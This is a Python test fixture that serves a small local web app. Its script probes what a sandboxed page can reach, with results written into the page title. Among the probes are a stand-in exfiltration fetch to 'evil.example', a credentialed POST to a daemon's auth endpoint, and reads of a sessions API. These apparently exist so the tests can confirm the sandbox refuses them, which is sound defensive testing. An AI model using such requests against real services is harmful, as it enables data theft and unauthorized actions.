# SPDX-License-Identifier: Apache-2.0
"""A small app for the tests of published ports: page, script, API, form, events, WebSocket."""
import base64
import hashlib
import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>loading</title><link rel=icon href="data:,">
<form method=post action=form><input name=word value=wren><button>send</button></form>
<script src=app.js></script>"""

# What a page of a cage tries, good and bad; the results are in its title as JSON.
SCRIPT = """
const outcome = async (act) => { try { return await act(); } catch (e) { return `refused: ${e.name}`; } };
const socket = (url) => new Promise((resolve, reject) => {
  const ws = new WebSocket(url);
  ws.onopen = () => ws.send("hello");
  ws.onmessage = (message) => { resolve(message.data); ws.close(); };
  ws.onerror = () => reject({ name: "WebSocketError" });
});
const base = new URL(".", location.href);
const ws = (path) => new URL(path, base).href.replace(/^http/, "ws");
(async () => {
  const results = {
    origin: String(self.origin),
    api: await outcome(async () => (await (await fetch("api")).json()).path),
    put: await outcome(async () => (await (await fetch("api", {
      method: "PUT", headers: { "Content-Type": "application/json", "X-Mine": "1" }, body: "{}",
    })).json()).method),
    socket: await outcome(() => socket(ws("ws"))),
    events: await outcome(() => new Promise((resolve, reject) => {
      const events = new EventSource("events");
      events.onmessage = (e) => { resolve(e.data); events.close(); };
      events.onerror = () => reject({ name: "EventError" });
    })),
    module: await outcome(async () => (await import(new URL("module.js", base).href)).bird),
    cookie: await outcome(() => document.cookie),
    storage: await outcome(() => String(localStorage.length)),
    worker: await outcome(async () => String(await navigator.serviceWorker.register("worker.js"))),
    daemonRead: await outcome(async () => (await fetch(new URL("/api/v1/sessions", base))).status),
    daemonWrite: await outcome(async () => (await fetch(new URL("/api/v1/auth/launch-codes", base), {
      method: "POST", mode: "no-cors", credentials: "include", body: "{}",
    })).type),
    daemonSocket: await outcome(() => socket(ws("/api/v1/stream"))),
    elsewhere: await outcome(async () => (await fetch("https://evil.example/?data")).status),
    image: await outcome(() => new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = () => resolve("loaded");
      image.onerror = () => reject({ name: "ImageError" });
      image.src = new URL("/api/v1/sessions", base);
    })),
  };
  document.title = JSON.stringify(results);
})();
"""


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def answer(self, body, kind="text/html", status=200, **fields):
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Set-Cookie", "volary_session=stolen; Path=/")
        self.send_header("Service-Worker-Allowed", "/")
        for name, value in fields.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(data)

    def echo(self):
        size = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(size).decode()
        self.answer(json.dumps({"method": self.command, "path": self.path, "body": body,
                                "headers": {k.lower(): v for k, v in self.headers.items()}}),
                    "application/json")

    def do_GET(self):
        if self.path == "/":
            self.answer(PAGE)
        elif self.path == "/app.js":
            self.answer(SCRIPT, "text/javascript")
        elif self.path == "/module.js":
            self.answer("export const bird = 'wren';", "text/javascript")
        elif self.path == "/worker.js":
            self.answer("", "text/javascript")
        elif self.path == "/away":
            self.answer("", status=302, Location="/api?came=1")
        elif self.path == "/events":
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            self.wfile.write(b"data: chirp\n\n")
            self.wfile.flush()
            threading.Event().wait(60)
        elif self.path == "/ws":
            self.websocket()
        else:
            self.echo()

    do_POST = do_PUT = do_DELETE = echo

    def websocket(self):
        key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        accept = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
        self.wfile.write(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
                          f"Connection: Upgrade\r\nSec-WebSocket-Accept: {accept}\r\n\r\n").encode())
        while True:
            head = self.rfile.read(2)
            if len(head) < 2 or head[0] & 15 == 8:
                break
            size = head[1] & 127
            mask = self.rfile.read(4)
            text = bytes(b ^ mask[i & 3] for i, b in enumerate(self.rfile.read(size)))
            self.wfile.write(bytes([0x81, size]) + text)
        self.close_connection = True


ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
